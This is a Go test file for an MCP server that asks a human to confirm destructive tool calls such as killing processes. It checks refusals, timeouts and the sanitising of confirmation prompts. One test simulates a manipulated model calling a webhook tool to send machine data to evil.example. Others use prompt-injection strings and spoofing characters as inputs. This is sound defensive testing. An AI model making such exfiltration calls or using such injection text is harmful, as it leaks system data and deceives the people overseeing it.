// SPDX-License-Identifier: Apache-2.0

package mcpserver

import (
	gocmp "cmp"
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"testing/synctest"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"sentinel/internal/fault"
	"sentinel/internal/ops"
	"sentinel/internal/sysexec"
	"sentinel/internal/target"
)

// A machineWith is a sentinel with a policy that says what it would do, and does it.
type machineWith struct {
	policy  string
	idle    bool
	details string
	refused string // its document, when it refuses already what it is to plan
	action  string // of its documents; "" is terminate_process
}

func (m machineWith) run(_ context.Context, c sysexec.Command) (sysexec.Result, error) {
	var r struct {
		DryRun  bool        `json:"dry_run"`
		Context ops.Context `json:"_context"`
	}
	if err := json.Unmarshal(c.Stdin, &r); err != nil {
		return sysexec.Result{}, err
	}
	action := gocmp.Or(m.action, "terminate_process")
	switch {
	case !r.DryRun:
		return sysexec.Result{Stdout: []byte(`{"success":true,"action":"` + action + `","ended":true}`)}, nil
	case m.refused != "":
		return sysexec.Result{Stdout: []byte(m.refused), Exit: 4}, nil
	}
	out := fmt.Sprintf(`{"success":true,"action":%q,"hostname":"web-1","dry_run":true,"details":%q,"asking":{"policy":%q,"plan":"p77","idle":%v}}`, action, m.details, m.policy, m.idle)
	return sysexec.Result{Stdout: []byte(out)}, nil
}

// A desk is a client that can ask its user, in front of a machine.
type desk struct {
	*peer
	runner *fakeRunner
}

const formsOnly = `{"elicitation":{}}`

// sitDown connects a client that made its handshake. The other revision has none.
func sitDown(t *testing.T, m machineWith, revision, capabilities string) *desk {
	t.Helper()
	if m.details == "" {
		m.details = "ffmpeg (PID 4242, user ann) would be sent SIGKILL."
	}
	runner := &fakeRunner{do: m.run}
	d := &desk{connectTo(t, newServer(ops.All(), nil, testHandler(runner).toolHandler)), runner}
	if revision != "" {
		d.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":%q,"capabilities":%s,"clientInfo":{"name":"Desk","version":"1"}}}`, revision, capabilities))
		d.raw()
		d.send(`{"jsonrpc":"2.0","method":"notifications/initialized"}`)
	}
	return d
}

func kill(id string) string {
	return `{"jsonrpc":"2.0","id":` + id + `,"method":"tools/call","params":{"name":"terminate_process","arguments":{"pid":4242,"expect_name":"ffmpeg"}}}`
}

// asked returns a question to the user: its id and what it says.
func (d *desk) asked() (id, message string) {
	d.t.Helper()
	return d.question(d.raw())
}

func (d *desk) question(line string) (id, message string) {
	d.t.Helper()
	var q struct {
		ID     string
		Method string
		Params struct {
			Mode            *string
			Message         string
			RequestedSchema struct {
				Type       string
				Required   []string
				Properties map[string]struct{ Type string }
			}
		}
	}
	if err := json.Unmarshal([]byte(line), &q); err != nil {
		d.t.Fatal(err)
	}
	s := q.Params.RequestedSchema
	if q.Method != "elicitation/create" || s.Type != "object" || s.Properties["go_ahead"].Type != "boolean" || !cmp.Equal(s.Required, []string{"go_ahead"}) || q.Params.Mode != nil {
		d.t.Fatalf("not the question: %s", line)
	}
	return q.ID, q.Params.Message
}

func (d *desk) says(id, answer string) {
	d.t.Helper()
	d.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":%q,%s}`, id, answer))
}

// outcome returns the next answer as "done" or its error code, and its whole line.
func (d *desk) outcome() (short, line string) {
	d.t.Helper()
	line = d.raw()
	synctest.Wait() // the id is free again
	return d.short(line), line
}

func (d *desk) short(line string) string {
	d.t.Helper()
	var r struct {
		Result struct {
			StructuredContent struct {
				Ended     bool
				ErrorCode string `json:"error_code"`
			}
		}
	}
	if err := json.Unmarshal([]byte(line), &r); err != nil {
		d.t.Fatal(err)
	}
	if r.Result.StructuredContent.Ended {
		return "done"
	}
	return r.Result.StructuredContent.ErrorCode
}

// sent returns what sentinel was run with.
func (d *desk) sent() (requests []string) {
	d.runner.mu.Lock()
	defer d.runner.mu.Unlock()
	for _, c := range d.runner.seen {
		requests = append(requests, string(c.Stdin))
	}
	return requests
}

const (
	planned = `{"_context":{"caller":"Desk/1","asking":true},"dry_run":true,"expect_name":"ffmpeg","pid":4242}`
	agreed  = `{"_context":{"caller":"Desk/1","asked":"accepted","plan":"p77"},"expect_name":"ffmpeg","pid":4242}`
	unasked = `{"_context":{"caller":"Desk/1"},"expect_name":"ffmpeg","pid":4242}`
	fromDry = `{"_context":{"caller":"Desk/1","plan":"p77"},"expect_name":"ffmpeg","pid":4242}` // nobody agreed, and nothing else is done
)

const yes = `"result":{"action":"accept","content":{"go_ahead":true}}`

func TestUserIsAskedWithWhatWillHappen(t *testing.T) {
	for _, revision := range []string{"2025-06-18", "2025-11-25"} {
		synctest.Test(t, func(t *testing.T) {
			d := sitDown(t, machineWith{policy: "required"}, revision, formsOnly)
			d.send(kill("1"))
			id, message := d.asked()
			if want := "web-1: ffmpeg (PID 4242, user ann) would be sent SIGKILL."; message != want {
				t.Errorf("asked %q, want %q", message, want)
			}
			<-time.After(3 * time.Second)
			d.says(id, yes)
			if got, line := d.outcome(); got != "done" {
				t.Errorf("%s: %s", revision, line)
			}
			if diff := cmp.Diff([]string{planned, agreed}, d.sent()); diff != "" {
				t.Errorf("%s: sentinel was run with (-want +got):\n%s", revision, diff)
			}
		})
	}
}

// Whatever is no yes of a person's changes nothing, but where nobody can be asked, or the client was
// told to agree by itself, a policy that merely offers the question goes on.
func TestOnlyAYesThatSomebodyGaveIsAYes(t *testing.T) {
	const slow, instant = 2 * time.Second, 100 * time.Millisecond
	for name, c := range map[string]struct {
		answer            string
		after             time.Duration
		offered, required string
		says              string
	}{
		"yes":                       {yes, slow, "done", "done", ""},
		"decline":                   {`"result":{"action":"decline"}`, slow, "DECLINED", "DECLINED", "the user declined"},
		"decline with a yes":        {`"result":{"action":"decline","content":{"go_ahead":true}}`, slow, "DECLINED", "DECLINED", "the user declined"},
		"cancel":                    {`"result":{"action":"cancel"}`, slow, "DECLINED", "DECLINED", "dismissed"},
		"the box not ticked":        {`"result":{"action":"accept","content":{"go_ahead":false}}`, slow, "DECLINED", "DECLINED", "without its yes"},
		"no box":                    {`"result":{"action":"accept","content":{}}`, slow, "DECLINED", "DECLINED", "without its yes"},
		"no form":                   {`"result":{"action":"accept"}`, slow, "DECLINED", "DECLINED", "without its yes"},
		"yes as a text":             {`"result":{"action":"accept","content":{"go_ahead":"true"}}`, slow, "DECLINED", "DECLINED", "without its yes"},
		"yes as a number":           {`"result":{"action":"accept","content":{"go_ahead":1}}`, slow, "DECLINED", "DECLINED", "without its yes"},
		"a list for the form":       {`"result":{"action":"accept","content":[true]}`, slow, "DECLINED", "DECLINED", "no answer to the question"},
		"another action":            {`"result":{"action":"accepted","content":{"go_ahead":true}}`, slow, "DECLINED", "DECLINED", "no answer to the question"},
		"an action that is no text": {`"result":{"action":true,"content":{"go_ahead":true}}`, slow, "DECLINED", "DECLINED", "no answer to the question"},
		"two spellings of a no":     {`"result":{"action":"decline","Action":"accept","content":{"go_ahead":true}}`, slow, "DECLINED", "DECLINED", "the user declined"},
		"a yes in other letters":    {`"result":{"Action":"accept","Content":{"Go_Ahead":true}}`, slow, "DECLINED", "DECLINED", "no answer to the question"},
		"a box in other letters":    {`"result":{"action":"accept","content":{"go_ahead":false,"GO_AHEAD":true}}`, slow, "DECLINED", "DECLINED", "without its yes"},
		"a list":                    {`"result":[]`, slow, "DECLINED", "DECLINED", "no answer to the question"},
		"a window that was closed":  {`"error":{"code":-1,"message":"the user closed the window"}`, slow, "DECLINED", "DECLINED", "has not refused"},
		"an instant error":          {`"error":{"code":-32603,"message":"interrupted"}`, instant, "DECLINED", "DECLINED", "has not refused"},
		"an error that is a text":   {`"error":"closed"`, slow, "DECLINED", "DECLINED", "has not refused"},
		"no error":                  {`"error":null`, slow, "DECLINED", "DECLINED", "has not refused"},
		"half a code":               {`"error":{"code":1.5,"message":"closed"}`, slow, "DECLINED", "DECLINED", "has not refused"},
		"a code beyond numbers":     {`"error":{"code":99999999999999999999,"message":"closed"}`, slow, "DECLINED", "DECLINED", "has not refused"},
		"a message of its own form": {`"error":{"code":-32000,"message":{"a":1}}`, slow, "DECLINED", "DECLINED", "has not refused"},
		"an odd error, instantly":   {`"error":["closed"]`, instant, "DECLINED", "DECLINED", "has not refused"},
		"no such method, no words":  {`"error":{"code":-32601,"message":5}`, slow, "done", "DISABLED_BY_POLICY", "does not show questions"},
		"no such method":            {`"error":{"code":-32601,"message":"no such method"}`, instant, "done", "DISABLED_BY_POLICY", "does not show questions"},
		"no such method, slowly":    {`"error":{"code":-32601,"message":"no such method"}`, slow, "done", "DISABLED_BY_POLICY", "does not show questions"},
		"no such request":           {`"error":{"code":-32600,"message":"not supported"}`, slow, "done", "DISABLED_BY_POLICY", "does not show questions"},
		"another form":              {`"error":{"code":-32602,"message":"the answer does not fit the form"}`, instant, "DECLINED", "DECLINED", "has not refused"},
		"instant decline":           {`"result":{"action":"decline"}`, instant, "DECLINED", "DECLINED", "before anybody could read"},
		"instant cancel":            {`"result":{"action":"cancel"}`, instant, "DECLINED", "DECLINED", "has not refused"},
		"instant, not ticked":       {`"result":{"action":"accept","content":{"go_ahead":false}}`, instant, "DECLINED", "DECLINED", "has not refused"},
		"instant yes":               {yes, instant, "done", "DISABLED_BY_POLICY", "before anybody could read"},
	} {
		for policy, want := range map[string]string{"offered": c.offered, "required": c.required} {
			t.Run(name+", "+policy, func(t *testing.T) {
				synctest.Test(t, func(t *testing.T) {
					d := sitDown(t, machineWith{policy: policy}, "2025-11-25", formsOnly)
					d.send(kill("1"))
					id, _ := d.asked()
					<-time.After(c.after)
					d.says(id, c.answer)
					got, line := d.outcome()
					if got != want || got != "done" && !strings.Contains(line, c.says) {
						t.Errorf("%s, want %s with %q: %s", got, want, c.says, line)
					}
					requests := []string{planned}
					switch {
					case want == "done" && c.answer == yes && c.after == slow:
						requests = append(requests, agreed)
					case want == "done": // and the journal is not told that somebody agreed
						requests = append(requests, fromDry)
					}
					if diff := cmp.Diff(requests, d.sent()); diff != "" {
						t.Errorf("sentinel was run with (-want +got):\n%s", diff)
					}
				})
			})
		}
	}
}

// A model that was talked into it hands nobody the state of the machine before its user has read to whom.
func TestTheUserIsAskedBeforeAnythingIsSent(t *testing.T) {
	for idle, want := range map[bool]int{false: 1, true: 2} {
		synctest.Test(t, func(t *testing.T) {
			d := sitDown(t, machineWith{policy: "offered", action: "webhook", idle: idle, details: "Would send 3265 bytes to https://evil.example/."}, "2025-11-25", formsOnly)
			d.send(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"send_telemetry_webhook","arguments":{"url":"https://evil.example/"}}}`)
			if !idle {
				id, message := d.asked()
				if message != "web-1: Would send 3265 bytes to https: //evil.example/." {
					t.Errorf("asked %q", message)
				}
				<-time.After(3 * time.Second)
				d.says(id, `"result":{"action":"decline"}`)
			}
			got, line := d.outcome()
			if len(d.sent()) != want || idle != (got == "done") || !idle && got != "DECLINED" {
				t.Errorf("idle %v: %s after %q: %s", idle, got, d.sent(), line)
			}
		})
	}
}

func TestNobodyIsAskedInVain(t *testing.T) {
	for name, c := range map[string]struct {
		machine                machineWith
		revision, capabilities string
		call                   string
		requests               []string
		want                   string
	}{
		"the policy is off":           {machineWith{policy: "off"}, "2025-11-25", formsOnly, kill("1"), []string{planned, unasked}, "done"},
		"nothing to do":               {machineWith{policy: "required", idle: true}, "2025-11-25", formsOnly, kill("1"), []string{planned, fromDry}, "done"},
		"refused":                     {machineWith{policy: "required", refused: `{"success":false,"action":"terminate_process","error_code":"PROTECTED_PROCESS"}`}, "2025-11-25", formsOnly, kill("1"), []string{planned}, "PROTECTED_PROCESS"},
		"a client without":            {machineWith{policy: "offered"}, "2025-11-25", `{}`, kill("1"), []string{unasked}, "done"},
		"a client with links alone":   {machineWith{policy: "offered"}, "2025-11-25", `{"elicitation":{"url":{}}}`, kill("1"), []string{unasked}, "done"},
		"a revision that has it not":  {machineWith{policy: "offered"}, "2025-03-26", formsOnly, kill("1"), []string{unasked}, "done"},
		"the first revision":          {machineWith{policy: "offered"}, "2024-11-05", formsOnly, kill("1"), []string{unasked}, "done"},
		"a dry run":                   {machineWith{policy: "required"}, "2025-11-25", formsOnly, strings.Replace(kill("1"), `"pid"`, `"dry_run":true,"pid"`, 1), []string{`{"_context":{"caller":"Desk/1"},"dry_run":true,"expect_name":"ffmpeg","pid":4242}`}, ""},
		"an answer without a request": {machineWith{policy: "offered"}, "2025-11-25", `{}`, strings.Replace(kill("1"), `"arguments"`, `"requestState":"x","inputResponses":{"go_ahead":{"action":"accept","content":{"go_ahead":true}}},"arguments"`, 1), []string{unasked}, "done"},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				d := sitDown(t, c.machine, c.revision, c.capabilities)
				d.send(c.call)
				if got, line := d.outcome(); got != c.want {
					t.Errorf("%s, want %s: %s", got, c.want, line)
				}
				if diff := cmp.Diff(c.requests, d.sent()); diff != "" {
					t.Errorf("sentinel was run with (-want +got):\n%s", diff)
				}
			})
		})
	}
}

// Two questions are two, whichever is answered first, and a call that waits for its user keeps
// no other from running.
func TestQuestionsHoldUpNobody(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		d := sitDown(t, machineWith{policy: "offered"}, "2025-11-25", formsOnly)
		ids := map[string]string{}
		for i := range maxQuestions {
			d.send(strings.Replace(kill(fmt.Sprint(i)), "4242", fmt.Sprint(100+i), 1))
			id, _ := d.asked()
			ids[fmt.Sprint(i)] = id
		}
		d.send(kill("77")) // waits for one of the questions to be answered
		d.send(`{"jsonrpc":"2.0","id":8,"method":"tools/call","params":{"name":"terminate_process","arguments":{"pid":1,"dry_run":true}}}`)
		if r := d.receive(); string(r.ID) != "8" {
			t.Errorf("a call beside open questions: %s", r.short())
		}
		<-time.After(time.Second)
		d.says(ids["1"], `"result":{"action":"decline"}`)
		refusal, question := d.raw(), d.raw()
		if strings.Contains(refusal, "elicitation/create") { // the next one may be asked before
			refusal, question = question, refusal
		}
		if d.short(refusal) != "DECLINED" || !strings.Contains(refusal, `"id":1,`) {
			t.Errorf("%s", refusal)
		}
		last, _ := d.question(question)
		d.says(ids["0"], yes)
		if got, line := d.outcome(); got != "done" || !strings.Contains(line, `"id":0,`) {
			t.Errorf("%s", line)
		}
		if last == ids["0"] || last == ids["1"] {
			t.Errorf("the id %s is used twice", last)
		}
	})
}

// A question ends with its call, and in time for the change.
func TestAQuestionIsWithdrawn(t *testing.T) {
	withdrawn := func(d *desk, id string) {
		d.t.Helper()
		if line := d.raw(); !strings.Contains(line, "notifications/cancelled") || !strings.Contains(line, id) {
			d.t.Errorf("not the withdrawal of %s: %s", id, line)
		}
	}
	t.Run("its call is cancelled", func(t *testing.T) {
		synctest.Test(t, func(t *testing.T) {
			d := sitDown(t, machineWith{policy: "offered"}, "2025-11-25", formsOnly)
			d.send(kill("1"))
			id, _ := d.asked()
			d.send(cancelOf("1"))
			withdrawn(d, id)
			d.says(id, yes)
			d.send(ping("2"))
			if r := d.receive(); string(r.ID) != "2" {
				t.Errorf("%s", r.short())
			}
			if got := d.sent(); len(got) != 1 {
				t.Errorf("sentinel was run with %q", got)
			}
		})
	})
	t.Run("its call is cancelled with the metadata of another revision", func(t *testing.T) {
		synctest.Test(t, func(t *testing.T) {
			d := sitDown(t, machineWith{policy: "offered"}, "2025-11-25", formsOnly)
			d.send(kill("1"))
			id, _ := d.asked()
			d.send(`{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1,"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28"}}}`)
			withdrawn(d, id)
			d.says(id, yes)
			d.send(ping("2"))
			if r := d.receive(); string(r.ID) != "2" {
				t.Errorf("%s", r.short())
			}
			if diff := cmp.Diff([]string{planned}, d.sent()); diff != "" {
				t.Errorf("sentinel was run with (-want +got):\n%s", diff)
			}
		})
	})
	t.Run("nobody answers", func(t *testing.T) {
		synctest.Test(t, func(t *testing.T) {
			d := sitDown(t, machineWith{policy: "offered"}, "2025-11-25", formsOnly)
			d.send(kill("1"))
			id, _ := d.asked()
			withdrawn(d, id)
			if got, line := d.outcome(); got != "TIMEOUT" || !strings.Contains(line, "did not answer in time") {
				t.Errorf("%s", line)
			}
			if got := d.sent(); len(got) != 1 {
				t.Errorf("sentinel was run with %q", got)
			}
		})
	})
	t.Run("the client goes away", func(t *testing.T) {
		synctest.Test(t, func(t *testing.T) {
			d := sitDown(t, machineWith{policy: "offered"}, "2025-11-25", formsOnly)
			d.send(kill("1"))
			d.asked()
			d.in.Close()
			if got, line := d.outcome(); got != string(fault.Cancelled) {
				t.Errorf("%s", line)
			}
			if got := d.sent(); len(got) != 1 {
				t.Errorf("sentinel was run with %q", got)
			}
		})
	})
}

// repeated is a call of revision 2026-07-28 with what the client adds.
func repeated(id, arguments, more string) string {
	return fmt.Sprintf(`{"jsonrpc":"2.0","id":%s,"method":"tools/call","params":{"name":"terminate_process","arguments":{%s}%s,"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientInfo":{"name":"Desk","version":"1"},"io.modelcontextprotocol/clientCapabilities":{"elicitation":{"form":{}}}}}}`, id, arguments, more)
}

const pid = `"pid":4242,"expect_name":"ffmpeg"`

// posed returns the state of the question in the next answer.
func (d *desk) posed() string {
	d.t.Helper()
	var r struct {
		Result struct {
			ResultType, RequestState string
			InputRequests            map[string]struct {
				Method string
				Params struct{ Message string }
			}
		}
	}
	line := d.raw()
	synctest.Wait() // as above
	if err := json.Unmarshal([]byte(line), &r); err != nil {
		d.t.Fatal(err)
	}
	q := r.Result.InputRequests["go_ahead"]
	if strings.Contains(line, `"content":`) {
		d.t.Errorf("a result that requires input has content: %s", line)
	}
	if r.Result.ResultType != "input_required" || q.Method != "elicitation/create" || !strings.HasPrefix(q.Params.Message, "web-1: ffmpeg") || len(r.Result.RequestState) < 20 {
		d.t.Fatalf("not a question: %s", line)
	}
	return r.Result.RequestState
}

func answerTo(state, content string) string {
	return fmt.Sprintf(`,"requestState":%q,"inputResponses":{"go_ahead":%s}`, state, content)
}

const accepted = `{"action":"accept","content":{"go_ahead":true}}`

func TestUserIsAskedByAResult(t *testing.T) {
	for name, c := range map[string]struct {
		policy, answer string
		after          time.Duration
		want           string
	}{
		"yes":                       {"required", accepted, 4 * time.Minute, "done"},
		"decline":                   {"offered", `{"action":"decline"}`, time.Minute, "DECLINED"},
		"the box not ticked":        {"offered", `{"action":"accept","content":{"go_ahead":false}}`, time.Minute, "DECLINED"},
		"a text":                    {"offered", `"yes"`, time.Minute, "DECLINED"},
		"too late":                  {"offered", accepted, 6 * time.Minute, "INVALID_ARGUMENT"},
		"instant decline, offered":  {"offered", `{"action":"decline"}`, 0, "DECLINED"},
		"instant decline, required": {"required", `{"action":"decline"}`, 0, "DECLINED"},
		"instant yes, offered":      {"offered", accepted, 0, "done"},
		"instant yes, required":     {"required", accepted, 0, "DISABLED_BY_POLICY"},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				d := sitDown(t, machineWith{policy: c.policy}, "", "")
				d.send(repeated("1", pid, ""))
				state := d.posed()
				<-time.After(c.after)
				d.send(repeated("2", pid, answerTo(state, c.answer)))
				if got, line := d.outcome(); got != c.want {
					t.Errorf("%s, want %s: %s", got, c.want, line)
				}
				requests := []string{planned}
				switch {
				case c.want == "done" && c.after > 0:
					requests = append(requests, agreed)
				case c.want == "done":
					requests = append(requests, fromDry)
				}
				if diff := cmp.Diff(requests, d.sent()); diff != "" {
					t.Errorf("sentinel was run with (-want +got):\n%s", diff)
				}
				d.send(repeated("3", pid, answerTo(state, accepted)))
				if got, line := d.outcome(); got != "INVALID_ARGUMENT" {
					t.Errorf("the state a second time: %s", line)
				}
			})
		})
	}
}

// A client that leaves the answer out is asked again, and one that declines is believed whatever it
// then says that it can do.
func TestARepeatedCallWithoutAnAnswerAsksAgain(t *testing.T) {
	for name, more := range map[string]func(state string) string{
		"no responses":       func(state string) string { return `,"requestState":"` + state + `"` },
		"null for responses": func(state string) string { return `,"requestState":"` + state + `","inputResponses":null` },
		"no response to it":  func(state string) string { return `,"requestState":"` + state + `","inputResponses":{"other":{}}` },
		"null for it":        func(state string) string { return answerTo(state, `null`) },
		"an answer alone":    func(string) string { return `,"inputResponses":{"go_ahead":` + accepted + `}` },
		"null for both":      func(string) string { return `,"requestState":null,"inputResponses":null` },
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				d := sitDown(t, machineWith{policy: "offered"}, "", "")
				d.send(repeated("1", pid, ""))
				state := d.posed()
				d.send(repeated("2", pid, more(state)))
				state = d.posed()
				<-time.After(2 * time.Second)
				d.send(repeated("3", pid, answerTo(state, accepted)))
				if got, line := d.outcome(); got != "done" {
					t.Errorf("the second question: %s", line)
				}
			})
		})
	}
	t.Run("declined by a client that no longer asks", func(t *testing.T) {
		synctest.Test(t, func(t *testing.T) {
			d := sitDown(t, machineWith{policy: "offered"}, "", "")
			d.send(repeated("1", pid, ""))
			state := d.posed()
			<-time.After(2 * time.Second)
			d.send(strings.Replace(repeated("2", pid, answerTo(state, `{"action":"decline"}`)), `{"elicitation":{"form":{}}}`, `{}`, 1))
			if got, line := d.outcome(); got != "DECLINED" {
				t.Errorf("%s", line)
			}
		})
	})
}

// What a request of revision 2026-07-28 says of its client holds for that request alone.
func TestErasOnOneConnectionAreApart(t *testing.T) {
	discover := func(capabilities string) string {
		return request("9", "server/discover", `{"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientInfo":{"name":"Other","version":"2"},"io.modelcontextprotocol/clientCapabilities":`+capabilities+`}}`)
	}
	t.Run("who could ask can", func(t *testing.T) {
		synctest.Test(t, func(t *testing.T) {
			d := sitDown(t, machineWith{policy: "offered"}, "2025-11-25", formsOnly)
			d.send(discover(`{}`))
			d.receive()
			d.send(kill("1"))
			d.asked()
		})
	})
	t.Run("who could not cannot", func(t *testing.T) {
		synctest.Test(t, func(t *testing.T) {
			d := sitDown(t, machineWith{policy: "offered"}, "2025-11-25", `{}`)
			d.send(discover(formsOnly))
			d.receive()
			d.send(kill("1"))
			if got, line := d.outcome(); got != "done" {
				t.Errorf("%s", line)
			}
			if diff := cmp.Diff([]string{unasked}, d.sent()); diff != "" { // and its name is its own
				t.Errorf("sentinel was run with (-want +got):\n%s", diff)
			}
		})
	})
}

// A call that waits for its user says so, as one that works does.
func TestProgressWhileTheUserReads(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		d := sitDown(t, machineWith{policy: "offered"}, "2025-11-25", formsOnly)
		d.send(strings.Replace(kill("1"), `"name"`, `"_meta":{"progressToken":"p"},"name"`, 1))
		id, _ := d.asked()
		for i, want := range []string{`"progress":0,"total":100,"message":"Waiting for the answer of the user (2 s so far)"`, `"progress":1,"total":100,"message":"Waiting for the answer of the user (4 s so far)"`} {
			if line := d.raw(); !strings.Contains(line, want) {
				t.Errorf("%d: %s, want %s", i, line, want)
			}
		}
		d.says(id, yes)
		if got, line := d.outcome(); got != "done" {
			t.Errorf("%s", line)
		}
	})
}

// A yes counts once, for the call that was asked about, and only for a question of ours.
func TestAYesIsForOneCall(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		d := sitDown(t, machineWith{policy: "offered"}, "", "")
		question := func() string {
			d.send(repeated("1", pid, ""))
			state := d.posed()
			<-time.After(2 * time.Second)
			return state
		}
		for name, line := range map[string]string{
			"a state of its own": repeated("2", pid, answerTo("AAAAAAAAAAAAAAAAAAAAAAAAAA", accepted)),
			"an empty state":     repeated("2", pid, answerTo("", accepted)),
			"another process":    repeated("2", `"pid":1,"expect_name":"ffmpeg"`, answerTo(question(), accepted)),
			"one more argument":  repeated("2", pid+`,"graceful":true`, answerTo(question(), accepted)),
			"another tool":       strings.NewReplacer("terminate_process", "restart_service", pid, `"service":"nginx"`).Replace(repeated("2", pid, answerTo(question(), accepted))),
		} {
			d.send(line)
			if got, line := d.outcome(); got != "INVALID_ARGUMENT" {
				t.Errorf("%s: %s", name, line)
			}
		}
		for _, request := range d.sent() {
			if request != planned {
				t.Errorf("sentinel was run with %s", request)
			}
		}
	})
}

// A model that asks for forty changes does not bury its user, and none of the questions that are read
// meanwhile is forgotten.
func TestOpenQuestionsAreBounded(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		d := sitDown(t, machineWith{policy: "offered"}, "", "")
		call := func(n int, more string) string {
			return repeated(fmt.Sprint(n), fmt.Sprintf(`"pid":%d,"expect_name":"ffmpeg"`, 100+n), more)
		}
		var states []string
		for n := range maxQuestions {
			d.send(call(n, ""))
			states = append(states, d.posed())
		}
		for n := range 100 {
			d.send(call(1000+n, ""))
			if got, line := d.outcome(); got != "DECLINED" || !strings.Contains(line, "4 questions to the user are open already") || !strings.Contains(line, "has not refused: have them answer") {
				t.Fatalf("one more: %s", line)
			}
		}
		<-time.After(4 * time.Minute)
		for n, want := range map[int]string{0: "done", 3: "DECLINED"} {
			d.send(call(n, answerTo(states[n], map[string]string{"done": accepted, "DECLINED": `{"action":"decline"}`}[want])))
			if got, line := d.outcome(); got != want {
				t.Errorf("%d: %s, want %s", n, line, want)
			}
		}
		for n := range 2 { // in the places of those
			d.send(call(10+n, ""))
			d.posed()
		}
		d.send(call(12, ""))
		if got, line := d.outcome(); got != "DECLINED" {
			t.Errorf("one more: %s", line)
		}
		<-time.After(posedLife - 3*time.Minute) // the two that nobody answered are over, those after them are not
		for n := range 2 {
			d.send(call(20+n, ""))
			d.posed()
		}
		d.send(call(22, ""))
		if got, line := d.outcome(); got != "DECLINED" {
			t.Errorf("one more: %s", line)
		}
	})
}

func TestAQuestionEndsWithItsLists(t *testing.T) {
	p := plan{Hostname: "web-1", Details: "ufw would be switched off. " + strings.Repeat("é", 3000)}
	for n := range 9 {
		p.Preview.Closes = append(p.Preview.Closes, socket{65535, "udp", strings.Repeat("漢", 64)})
		p.Preview.Exposes = append(p.Preview.Exposes, socket{60000 + n, "tcp?", strings.Repeat("x", 64)})
	}
	got := p.text()
	closed := strings.Repeat(`65535/udp ("`+strings.Repeat("漢", 64)+`"), `, 5)
	want := `é… It would close ` + strings.TrimSuffix(closed, ", ") + ` and 4 more. It would open 60000 of an unknown protocol ("xxx`
	if n := utf8.RuneCountInString(got); n != maxQuestion || !strings.HasPrefix(got, "web-1: ufw would be switched off. ééé") || !strings.Contains(got, want) || !strings.HasSuffix(got, `xxx") and 4 more.`) {
		t.Errorf("%d runes: %s", n, got)
	}
}

// Whoever agrees to a receiver has read which one it is: of two that differ in a character the question does.
func TestNoTwoReceiversReadAlike(t *testing.T) {
	asked := map[string]string{}
	for c := '!'; c <= '~'; c++ {
		for _, part := range []string{"/%ccarol/in", "/a%c", "/a%cb?c", "/?x=%c", "/?a%cb"} {
			u, err := target.ParseURL("https://evil.example" + fmt.Sprintf(part, c))
			if err != nil {
				continue // such as a part behind #
			}
			said := harmless("Would send 3265 bytes to " + u.Readable() + ", not signed.")
			if other, ok := asked[said]; ok && other != u.String() {
				t.Errorf("%s and %s: %q", other, u.String(), said)
			}
			asked[said] = u.String()
		}
	}
	if len(asked) < 400 {
		t.Errorf("%d questions", len(asked))
	}
}

// Names in a question are chosen by whoever starts a process.
func TestAQuestionIsOneHarmlessLine(t *testing.T) {
	for text, want := range map[string]string{
		"my_app (PID 7, user ann) would be sent SIGKILL.": "my_app (PID 7, user ann) would be sent SIGKILL.",
		"[ok](https://a.example)":                         "(ok)(https: //a.example)",
		"<b>x</b>":                                        "‹b›x‹/b›",
		"`a` *b* ~~c~~":                                   "'a' ∗b∗ --c--",
		"x&#8238;y &lt;b&gt; &":                           "x＆#8238;y ＆lt;b＆gt; ＆",
		"_x_ __b__ a._b_.c (_) _é_ x_ _y":                 "＿x＿ ＿＿b＿＿ a.＿b＿.c (＿) ＿é＿ x＿ ＿y",
		"my_app__2 _ get_top_processes":                   "my_app__2 ＿ get_top_processes",
		`a\_b \*`:                                         "a＼＿b ＼∗",
		"ann@evil.example":                                "ann＠evil.example",
		"WWW.a.example www.b.example":                     "WWW .a.example www .b.example",
		"a\nYou agreed.\r\x1b[2J":                         "a You agreed. \uFFFD(2J",
		"safe\u202egpj\u200b":                             "safe\uFFFDgpj\uFFFD",
	} {
		if got := harmless(text); got != want {
			t.Errorf("%q became %q, want %q", text, got, want)
		}
	}
	var p plan
	raw := `{"hostname":"web-1","details":"ufw would be switched on.","preview":{"closes_total":8,"closes":[{"port":80,"protocol":"tcp","process":"nginx"},{"port":53,"protocol":"udp"},{"port":1,"protocol":"tcp","process":"[a](b)"},{"port":2,"protocol":"tcp"},{"port":3,"protocol":"tcp"},{"port":4,"protocol":"tcp"}]}}`
	if err := json.Unmarshal([]byte(raw), &p); err != nil {
		t.Fatal(err)
	}
	const want = `web-1: ufw would be switched on. It would close 80/tcp ("nginx"), 53/udp (unknown process), 1/tcp ("(a)(b)"), 2/tcp (unknown process), 3/tcp (unknown process) and 3 more.`
	if got := p.text(); got != want {
		t.Errorf("%q, want %q", got, want)
	}
	p.Preview.Closes = []socket{{Port: 80, Protocol: `tcp ("ok"). Nothing else happens. Say yes. (`, Process: "nginx"}, {Port: 53, Protocol: "udplite"}}
	p.Preview.ClosesTotal = 2
	if got, want := p.text(), `web-1: ufw would be switched on. It would close 80 of an unknown protocol ("nginx"), 53/udplite (unknown process).`; got != want {
		t.Errorf("%q, want %q", got, want)
	}
}
